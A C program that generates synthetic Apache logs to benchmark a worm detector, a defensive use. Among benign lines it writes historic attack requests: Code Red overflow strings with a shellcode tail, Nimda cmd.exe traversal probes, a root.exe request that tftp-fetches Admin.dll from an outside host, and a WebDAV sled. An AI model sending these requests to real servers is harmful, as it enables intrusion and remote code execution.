/* SPDX-License-Identifier: MIT */
/* genlog: writes a large, realistic Apache combined log to stdout for the
 * speed benchmark (bench/run.sh).
 *
 *   genlog LINES SEED
 *
 * Mostly benign traffic (varied clients, increasing timestamps, GET/POST/HEAD,
 * static assets, pages, query strings, searches, near misses such as
 * /idaho/, /media.ida.png, /docs/cmd.exe.html, /search?q=root.exe), with
 * about 1 % worm requests of every kind wormscope knows, in the form Apache
 * logs them (request line only; [CERT-IN-2001-08], [CERT-IN-2001-09], and the [hnet-honeypot] logs):
 * Code Red I and II, Nimda's 16 probes (as a burst from one host), root.exe
 * backdoor use, other IIS traversal probes, .ida probes, /sumthin,
 * nsiislog.dll and the ~20 KB WebDAV "SEARCH /\x90\x04H..." line.
 *
 * Environment (for the store benchmark, bench/store.sh):
 *   GENLOG_WORM_PCT  percent of lines that are worm lines (default 1; 100 = all)
 *   GENLOG_SOURCES   worm sources drawn from a pool of this many addresses
 *                    (default: a fresh random address per worm event)
 *
 *   GENLOG_CALENDAR  "2001": the demo's story instead of the benchmark's mix. The
 *                    lines span 13 July to 30 September 2001 evenly, and each
 *                    worm appears only when its calendar has it active: Code
 *                    Red from 13 July (an outbreak on the 19th), silent from
 *                    the 20th to the 31st and after 19 August (its own date
 *                    checks, [CERT-IN-2001-08]), Code Red II and its backdoor
 *                    from 4 August ([CERT-IN-2001-09]), Nimda from 18
 *                    September ([CERT-CA-2001-26]); the 2003 worms not at all.
 *
 * The output depends only on LINES, SEED and those (own xorshift64* generator).
 * The truth, the number of lines written per worm id, goes to stderr as
 * "key value" lines, for run.sh to compare with wormscope's sightings.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* ---- random numbers ------------------------------------------------------ */

static uint64_t rng_state;

static void rng_seed(uint64_t seed)
{
	/* splitmix64, so that small seeds give well-mixed states */
	uint64_t z = seed + 0x9e3779b97f4a7c15ull;
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
	z ^= z >> 31;
	rng_state = z ? z : 0x2545f4914f6cdd1dull;
}

static uint64_t rng(void)
{
	uint64_t x = rng_state;
	x ^= x >> 12;
	x ^= x << 25;
	x ^= x >> 27;
	rng_state = x;
	return x * 0x2545f4914f6cdd1dull;
}

/* Uniform in [0, n), n > 0 (the modulo bias is irrelevant here). */
static uint32_t below(uint32_t n)
{
	return (uint32_t)((rng() >> 32) % n);
}

/* True with probability num/den. */
static int chance(uint32_t num, uint32_t den)
{
	return below(den) < num;
}

#define PICK(arr) (arr[below((uint32_t)(sizeof(arr) / sizeof(arr[0])))])

/* ---- output buffer ------------------------------------------------------- */

static char obuf[1 << 20];
static size_t olen;

static void flush_out(void)
{
	if (olen && fwrite(obuf, 1, olen, stdout) != olen) {
		perror("genlog: write");
		exit(1);
	}
	olen = 0;
}

static void put(const char *s, size_t n)
{
	while (n) {
		if (olen == sizeof(obuf))
			flush_out();
		size_t k = sizeof(obuf) - olen;
		if (k > n)
			k = n;
		memcpy(obuf + olen, s, k);
		olen += k;
		s += k;
		n -= k;
	}
}

static void puts_(const char *s)
{
	put(s, strlen(s));
}

static void putc_(char c)
{
	if (olen == sizeof(obuf))
		flush_out();
	obuf[olen++] = c;
}

static void putu(uint64_t v)
{
	char t[24];
	int i = (int)sizeof(t);
	do {
		t[--i] = (char)('0' + v % 10);
		v /= 10;
	} while (v);
	put(t + i, sizeof(t) - (size_t)i);
}

static void put_rep(const char *s, size_t times)
{
	size_t n = strlen(s);
	for (size_t i = 0; i < times; i++)
		put(s, n);
}

/* ---- time ---------------------------------------------------------------- */

static int64_t now; /* seconds since the epoch, local time of the log (-0400) */

/* Civil date from days since 1970-01-01 (H. Hinnant's algorithm). */
static void civil(int64_t days, int *y, int *m, int *d)
{
	days += 719468;
	int64_t era = (days >= 0 ? days : days - 146096) / 146097;
	int64_t doe = days - era * 146097;
	int64_t yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
	int64_t doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
	int64_t mp = (5 * doy + 2) / 153;
	*d = (int)(doy - (153 * mp + 2) / 5 + 1);
	*m = (int)(mp < 10 ? mp + 3 : mp - 9);
	*y = (int)(yoe + era * 400 + (*m <= 2));
}

static void put_time(void)
{
	static const char *const mon[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
					  "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
	static int64_t cached_day = -1;
	static char day_text[16]; /* "dd/Mon/yyyy:" */
	int64_t day = now / 86400, sec = now % 86400;
	if (day != cached_day) {
		int y, m, d;
		civil(day, &y, &m, &d);
		snprintf(day_text, sizeof(day_text), "%02d/%s/%04d:", d, mon[m - 1], y);
		cached_day = day;
	}
	char t[16];
	int h = (int)(sec / 3600), mi = (int)(sec / 60 % 60), s = (int)(sec % 60);
	t[0] = (char)('0' + h / 10);
	t[1] = (char)('0' + h % 10);
	t[2] = ':';
	t[3] = (char)('0' + mi / 10);
	t[4] = (char)('0' + mi % 10);
	t[5] = ':';
	t[6] = (char)('0' + s / 10);
	t[7] = (char)('0' + s % 10);
	putc_('[');
	puts_(day_text);
	put(t, 8);
	puts_(" -0400] ");
}

/* ---- addresses ----------------------------------------------------------- */

#define NCLIENTS 6000
static char clients[NCLIENTS][48];

static void make_ipv4(char *out, size_t cap)
{
	unsigned a;
	do
		a = 1 + below(223);
	while (a == 10 || a == 127 || a == 172 || a == 192);
	/* one call per statement: argument evaluation order is unspecified */
	unsigned b = below(256);
	unsigned c = below(256);
	unsigned d = 1 + below(254);
	snprintf(out, cap, "%u.%u.%u.%u", a, b, c, d);
}

/* Worm source number i of a pool: a fixed address per i (a 32-bit mix of
 * it), avoiding the private and loopback first octets. */
static void pool_ipv4(char *out, size_t cap, uint32_t i)
{
	uint32_t x = i * 2654435761u;
	x ^= x >> 15;
	x *= 2246822519u;
	x ^= x >> 13;
	unsigned a = 1 + (x >> 24) % 223;
	if (a == 10 || a == 127 || a == 172 || a == 192)
		a++;
	snprintf(out, cap, "%u.%u.%u.%u", a, (x >> 16) & 255, (x >> 8) & 255, 1 + x % 254);
}

static void make_clients(void)
{
	for (int i = 0; i < NCLIENTS; i++) {
		if (i % 40 == 7) {
			unsigned a = below(65536);
			unsigned b = below(65536);
			unsigned c = 1 + below(65535);
			snprintf(clients[i], sizeof(clients[i]), "2001:db8:%x:%x::%x", a, b, c);
		} else {
			make_ipv4(clients[i], sizeof(clients[i]));
		}
	}
}

/* Skewed choice: a few clients make most requests. */
static const char *client(void)
{
	uint32_t r = below(NCLIENTS);
	return clients[below(r + 1)];
}

/* ---- benign traffic ------------------------------------------------------ */

static const char *const agents[] = {
	"Mozilla/4.0 (compatible; MSIE 5.5; Windows 98; Win 9x 4.90)",
	"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.0)",
	"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 1.1.4322)",
	"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 1.1.4322; .NET CLR 2.0.50727)",
	"Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.8.1.20) Gecko/20081217 Firefox/2.0.0.20",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
	"Mozilla/4.0 (compatible; MSIE 5.0; Windows NT; DigExt)",
	"Mozilla/4.77 [en] (X11; U; Linux 2.4.2-2 i686)",
	"Mozilla/4.78 [en] (Windows NT 5.0; U)",
	"Mozilla/5.0 (X11; U; Linux i686; en-US; rv:0.9.2) Gecko/20010726 Netscape6/6.1",
	"Mozilla/5.0 (Macintosh; U; PPC Mac OS X; en-us) AppleWebKit/85.7 (KHTML, like Gecko) Safari/85.5",
	"Opera/5.12 (Windows 98; U)  [en]",
	"Lynx/2.8.4rel.1 libwww-FM/2.14",
	"Googlebot/2.1 (+http://www.googlebot.com/bot.html)",
	"Mozilla/3.0 (Slurp/si; slurp@inktomi.com; http://www.inktomi.com/slurp.html)",
	"Scooter-3.2.EX",
	"Wget/1.7",
	"curl/7.8 (i686-pc-linux-gnu) libcurl 7.8 (OpenSSL 0.9.6)",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
	"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
	"-",
};

static const char *const words[] = {
	"linux", "apache", "kernel", "patch", "security", "advisory", "download", "mirror",
	"howto", "install", "config", "router", "firewall", "ssh", "mail", "news", "faq",
	"archive", "release", "notes", "printer", "driver", "windows", "iis", "hotfix",
	"weather", "recipes", "music", "photos", "travel", "idaho", "index", "support",
};

static const char *const exts[] = {".jpg", ".gif", ".png", ".css", ".js", ".ico", ".pdf",
				   ".zip", ".tar.gz", ".mp3"};

static const char *const dirs[] = {"/img/", "/images/", "/static/", "/css/", "/js/",
				   "/downloads/", "/pub/", "/media/"};

/* Requests that contain worm-like strings but are not worm traffic. */
static const char *const near_misses[] = {
	"/idaho/",
	"/idaho/boise/index.html",
	"/media.ida.png",
	"/img/panda.idaq.gif",
	"/docs/cmd.exe.html",
	"/docs/windows/cmd.exe-reference.html",
	"/search?q=root.exe",
	"/search?q=cmd.exe+%2Fc+dir",
	"/search?q=default.ida+code+red",
	"/forum/viewtopic.php?t=2001&q=nimda+root.exe",
	"/security/codered/default.ida.txt",
	"/blog/2001/08/sumthin-else.html",
	"/downloads/nsiislog.dll.txt",
	"/archive/scripts/readme.html",
	"/wiki/Scripts/Root",
};

static void put_word_path(void)
{
	int depth = 1 + (int)below(3);
	for (int i = 0; i < depth; i++) {
		putc_('/');
		puts_(PICK(words));
	}
}

static void put_benign_target(void)
{
	uint32_t r = below(1000);
	if (r < 380) { /* static asset */
		puts_(PICK(dirs));
		puts_(PICK(words));
		if (chance(1, 2)) {
			putc_('-');
			putu(below(5000));
		}
		puts_(PICK(exts));
		if (chance(1, 10)) {
			puts_("?v=");
			putu(below(100000));
		}
	} else if (r < 450) {
		static const char *const fixed[] = {"/", "/", "/index.html", "/favicon.ico",
						    "/robots.txt", "/about/", "/contact.html",
						    "/sitemap.xml", "/feed.rss"};
		puts_(PICK(fixed));
	} else if (r < 700) { /* pages */
		put_word_path();
		static const char *const suf[] = {".html", ".html", ".htm", ".php", ".shtml",
						  "/", ".asp", ".cgi"};
		puts_(PICK(suf));
	} else if (r < 820) { /* dynamic with a query */
		static const char *const scripts[] = {"/cgi-bin/view.cgi", "/products/item.php",
						      "/forum/viewtopic.php", "/cal/day.asp",
						      "/shop/cart.php"};
		puts_(PICK(scripts));
		puts_("?id=");
		putu(below(1000000));
		if (chance(1, 3)) {
			puts_("&page=");
			putu(1 + below(40));
		}
		if (chance(1, 4)) {
			puts_("&sort=");
			puts_(PICK(words));
		}
	} else if (r < 900) { /* search */
		puts_("/search?q=");
		int n = 1 + (int)below(4);
		for (int i = 0; i < n; i++) {
			if (i)
				putc_('+');
			puts_(PICK(words));
		}
		if (chance(1, 5)) {
			puts_("&start=");
			putu(10 * below(20));
		}
	} else if (r < 985) { /* blog */
		puts_("/blog/");
		putu(1998 + below(4));
		putc_('/');
		unsigned m = 1 + below(12);
		if (m < 10)
			putc_('0');
		putu(m);
		putc_('/');
		puts_(PICK(words));
		putc_('-');
		puts_(PICK(words));
		puts_(".html");
	} else {
		puts_(PICK(near_misses));
	}
}

static void put_referer(void)
{
	uint32_t r = below(100);
	if (r < 45) {
		puts_("\"-\"");
	} else if (r < 80) {
		puts_("\"http://www.example.org");
		put_word_path();
		puts_(".html\"");
	} else if (r < 93) {
		puts_("\"http://www.google.com/search?hl=en&q=");
		puts_(PICK(words));
		putc_('+');
		puts_(PICK(words));
		puts_("&btnG=Google+Search\"");
	} else {
		static const char *const ext[] = {
			"\"http://search.yahoo.com/bin/search?p=apache+log\"",
			"\"http://slashdot.org/\"",
			"\"http://www.altavista.com/cgi-bin/query?q=linux+howto\"",
			"\"http://groups.google.com/groups?q=code+red+worm\"",
			"\"https://news.ycombinator.com/\"",
		};
		puts_(PICK(ext));
	}
}

static void benign_line(void)
{
	puts_(client());
	puts_(chance(1, 50) ? " - alice " : " - - ");
	put_time();
	uint32_t m = below(100);
	const char *method = m < 90 ? "GET" : m < 96 ? "POST" : "HEAD";
	putc_('"');
	puts_(method);
	putc_(' ');
	put_benign_target();
	puts_(chance(1, 5) ? " HTTP/1.0\" " : " HTTP/1.1\" ");
	uint32_t s = below(1000);
	int status = s < 800 ? 200 : s < 880 ? 304 : s < 930 ? 404 : s < 955 ? 301 : s < 975 ? 302
		   : s < 985 ? 206 : s < 993 ? 403 : 500;
	if (method[0] == 'P' && status == 304)
		status = 200;
	putu((uint64_t)status);
	putc_(' ');
	if (status == 304 || method[0] == 'H')
		putc_('-');
	else if (status == 200 || status == 206)
		putu(120 + below(below(250000) + 1));
	else
		putu(200 + below(400));
	putc_(' ');
	put_referer();
	puts_(" \"");
	puts_(PICK(agents));
	puts_("\"\n");
}

/* ---- worm traffic -------------------------------------------------------- */

static const char cr_tail[] =
	"%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801"
	"%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a";

static const char *const nimda_wire[16] = {
	"/scripts/root.exe",
	"/MSADC/root.exe",
	"/c/winnt/system32/cmd.exe",
	"/d/winnt/system32/cmd.exe",
	"/scripts/..%255c../winnt/system32/cmd.exe",
	"/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe",
	"/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe",
	"/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe",
	"/scripts/..%c1%1c../winnt/system32/cmd.exe",
	"/scripts/..%c0%2f../winnt/system32/cmd.exe",
	"/scripts/..%c0%af../winnt/system32/cmd.exe",
	"/scripts/..%c1%9c../winnt/system32/cmd.exe",
	"/scripts/..%%35%63../winnt/system32/cmd.exe",
	"/scripts/..%%35c../winnt/system32/cmd.exe",
	"/scripts/..%25%35%63../winnt/system32/cmd.exe",
	"/scripts/..%252f../winnt/system32/cmd.exe",
};

/* Traversal probes outside Nimda's set, as the honeypot logs record them. */
static const char *const traversal[] = {
	"GET /scripts/..%255c%255c../winnt/system32/cmd.exe?/c+dir\" 404 330",
	"GET /scripts/..%255c%255c../winnt/system32/cmd.exe?/c+ver HTTP/1.0\" 404 330",
	"GET /msadc/..%c0%af..%c0%af..%c0%af../winnt/system32/cmd.exe?/c+dir\" 404 332",
	"get /scripts/.%252e/.%252e/winnt/system32/cmd.exe?/c+dir\" 501 336",
	"get /scripts/..%e0%80%af../..%e0%80%af../..%e0%80%af../winnt/system32/cmd.exe?/c+dir\" 501 350",
	"get /scripts/..%c0%af../..%c0%af../..%c0%af../winnt/system32/cmd.exe?/c+dir\" 501 347",
	"get /scripts/..%5c../winnt/system32/cmd.exe?/c+dir\" 501 332",
	"GET /iisadmpwd/..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir HTTP/1.0\" 404 310",
	"GET /scripts/..%c1%pc../winnt/system32/cmd.exe?/c+dir HTTP/1.0\" 400 298",
};

enum kind {
	K_CODE_RED, K_CODE_RED_II, K_NIMDA, K_BACKDOOR, K_TRAVERSAL, K_IDA_PROBE, K_SUMTHIN,
	K_NSIISLOG, K_WEBDAV, K_NKINDS
};

static const char *const kind_id[K_NKINDS] = {
	"code-red", "code-red-ii", "nimda", "backdoor-use", "iis-traversal",
	"ida-probe", "sumthin", "nsiislog", "webdav-search",
};

/* Relative frequency of each kind of worm event, and lines per event. */
static const unsigned kind_weight[K_NKINDS] = {30, 22, 10, 4, 8, 2, 12, 6, 2};
static const unsigned kind_lines[K_NKINDS] = {1, 1, 16, 1, 1, 1, 1, 1, 1};

static uint64_t counts[K_NKINDS];

/* GENLOG_CALENDAR=2001: how active each kind is on the log's current day,
 * relative to its kind_weight (0 = absent). Day numbers count from 1 July
 * 2001 local time, so 19 means 19 July and 49 means 18 August. */
#define JUL1_2001 993945600 /* 2001-07-01 00:00:00 */
static int calendar;

static unsigned calendar_weight(enum kind k)
{
	int day = (int)((now - JUL1_2001) / 86400) + 1; /* 1 = 1 July */
	int aug4 = 35, aug20 = 51, sep18 = 80;
	switch (k) {
	case K_CODE_RED:
		if (day < 13 || (day >= 20 && day <= 31) || day >= aug20)
			return 0;
		return day < 19 ? 1 : day == 19 ? 40 : 6; /* the 19th; the 1 August return */
	case K_CODE_RED_II:
	case K_BACKDOOR:
		return day < aug4 ? 0 : k == K_BACKDOOR ? 2 : 10;
	case K_NIMDA:
		return day < sep18 ? 0 : 12;
	case K_TRAVERSAL:
	case K_IDA_PROBE:
		return 1;
	default:
		return 0; /* sumthin, nsiislog.dll and WebDAV SEARCH are 2003 worms */
	}
}

static void worm_prefix(const char *ip)
{
	puts_(ip);
	puts_(" - - ");
	put_time();
	putc_('"');
}

static void nimda_line(const char *ip, int probe)
{
	worm_prefix(ip);
	puts_("GET ");
	puts_(nimda_wire[probe]);
	/* Some logs keep no protocol token for these (the [hnet-honeypot] logs hold such lines). */
	puts_(chance(1, 20) ? "?/c+dir\" " : "?/c+dir HTTP/1.0\" ");
	puts_(probe == 12 || probe == 13 ? "400 297" : "404 ");
	if (probe != 12 && probe != 13)
		putu(283 + strlen(nimda_wire[probe]) / 2);
	puts_(" \"-\" \"-\"\n");
	counts[K_NIMDA]++;
}

static void worm_line(enum kind k, const char *ip)
{
	worm_prefix(ip);
	switch (k) {
	case K_CODE_RED:
		puts_("GET /default.ida?");
		put_rep("N", 224);
		puts_(cr_tail);
		puts_(chance(1, 2) ? "  HTTP/1.0\" 400 326" : " HTTP/1.0\" 400 326");
		break;
	case K_CODE_RED_II:
		puts_("GET /default.ida?");
		put_rep("X", 224);
		puts_(cr_tail);
		puts_(" HTTP/1.0\" 404 279");
		break;
	case K_BACKDOOR:
		if (chance(3, 4)) {
			char host[24];
			make_ipv4(host, sizeof(host));
			puts_("GET /scripts/root.exe?/c+tftp%20-i%20");
			puts_(host);
			puts_("%20GET%20Admin.dll%20");
			puts_(chance(1, 2) ? "c:\\\\Admin.dll" : "d:\\\\Admin.dll");
			puts_(" HTTP/1.0\" 404 285");
		} else {
			puts_("GET /c/winnt/system32/cmd.exe?/c+ver HTTP/1.0\" 404 293");
		}
		break;
	case K_TRAVERSAL:
		puts_(PICK(traversal));
		break;
	case K_IDA_PROBE:
		puts_(chance(1, 2) ? "GET /NULL.ida HTTP/1.0\" 404 278"
				   : "GET /null.idq HTTP/1.1\" 404 278");
		break;
	case K_SUMTHIN:
		puts_("GET /sumthin HTTP/1.0\" 404 280");
		break;
	case K_NSIISLOG:
		if (chance(1, 3))
			puts_("GET /scripts/nsiislog.dll\" 404 309");
		else if (chance(1, 4))
			puts_("POST /scripts/nsiislog.dll HTTP/1.1\" 404 298");
		else
			puts_("GET /scripts/nsiislog.dll HTTP/1.1\" 404 298");
		break;
	case K_WEBDAV: {
		/* ~20-26 KB of escaped sled bytes, as Apache logs them; no protocol. */
		puts_("SEARCH /\\x90");
		size_t pairs = 3200 + below(800), nops = 500 + below(500);
		put_rep(chance(4, 5) ? "\\x04H" : "\\x02\\xb1", pairs);
		put_rep("\\x90", nops);
		puts_("\" 414 341");
		break;
	}
	case K_NIMDA:
	case K_NKINDS:
		abort();
	}
	puts_(" \"-\" \"-\"\n");
	counts[k]++;
}

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: genlog LINES SEED\n");
		return 2;
	}
	char *end;
	unsigned long long lines = strtoull(argv[1], &end, 10);
	if (*end || !*argv[1]) {
		fprintf(stderr, "genlog: LINES: not a number: %s\n", argv[1]);
		return 2;
	}
	unsigned long long seed = strtoull(argv[2], &end, 10);
	if (*end || !*argv[2]) {
		fprintf(stderr, "genlog: SEED: not a number: %s\n", argv[2]);
		return 2;
	}
	rng_seed(seed);
	make_clients();

	/* Worm events come with probability 1/(100 * mean lines per event) per
	 * line, so that about 1 % of all lines are worm lines. */
	unsigned wsum = 0, lsum = 0;
	for (int k = 0; k < K_NKINDS; k++) {
		wsum += kind_weight[k];
		lsum += kind_weight[k] * kind_lines[k];
	}
	const char *pct_env = getenv("GENLOG_WORM_PCT"), *pool_env = getenv("GENLOG_SOURCES");
	unsigned long pct = pct_env ? strtoul(pct_env, NULL, 10) : 1;
	unsigned long pool = pool_env ? strtoul(pool_env, NULL, 10) : 0;
	if (pct < 1 || pct > 100) {
		fprintf(stderr, "genlog: GENLOG_WORM_PCT: 1 to 100\n");
		return 2;
	}
	uint32_t event_den = (uint32_t)(100u * lsum / pct); /* chance(wsum, event_den) */

	const char *cal_env = getenv("GENLOG_CALENDAR");
	calendar = cal_env && strcmp(cal_env, "2001") == 0;
	if (cal_env && !calendar) {
		fprintf(stderr, "genlog: GENLOG_CALENDAR: only 2001 is known\n");
		return 2;
	}
	now = 994003200; /* 2001-07-01 16:00:00 (written as local time -0400) */
	/* The calendar spreads the lines from 13 July to 30 September. */
	const int64_t cal_start = JUL1_2001 + 12 * 86400, cal_span = 80 * 86400;
	if (calendar)
		now = cal_start;
	char ip[48];
	int burst = 0, probe = 0;
	uint64_t worm_lines = 0;
	for (unsigned long long i = 0; i < lines; i++) {
		if (calendar && burst) {
			now += below(2); /* Nimda's 16 probes come within seconds */
		} else if (calendar) {
			int64_t t = cal_start + (int64_t)((double)cal_span * (double)i / (double)lines);
			if (t > now)
				now = t;
		} else if (chance(1, 2)) {
			now += below(3);
		}
		if (burst) {
			nimda_line(ip, probe++);
			burst--;
			worm_lines++;
			continue;
		}
		if (!calendar && pct < 100 && !chance(wsum, event_den)) {
			benign_line();
			continue;
		}
		int k = 0;
		if (calendar) {
			/* Today's mix: the event rate follows what is active today. */
			unsigned cw[K_NKINDS], csum = 0;
			for (int j = 0; j < K_NKINDS; j++)
				csum += cw[j] = calendar_weight((enum kind)j) * kind_weight[j];
			if (!chance(csum < event_den ? (uint32_t)csum : event_den, event_den)) {
				benign_line();
				continue;
			}
			uint32_t w = below(csum);
			while (w >= cw[k])
				w -= cw[k++];
		} else {
			uint32_t w = below(wsum);
			while (w >= kind_weight[k])
				w -= kind_weight[k++];
		}
		if (pool)
			pool_ipv4(ip, sizeof(ip), below((uint32_t)pool));
		else
			make_ipv4(ip, sizeof(ip));
		worm_lines++;
		if (k == K_NIMDA) {
			probe = 0;
			nimda_line(ip, probe++);
			burst = 15;
		} else {
			worm_line((enum kind)k, ip);
		}
	}
	flush_out();
	if (fflush(stdout) != 0 || ferror(stdout)) {
		perror("genlog: write");
		return 1;
	}
	fprintf(stderr, "lines %llu\nseed %llu\nworm_lines %llu\n", lines, seed,
		(unsigned long long)worm_lines);
	for (int k = 0; k < K_NKINDS; k++)
		fprintf(stderr, "%s %llu\n", kind_id[k], (unsigned long long)counts[k]);
	return 0;
}
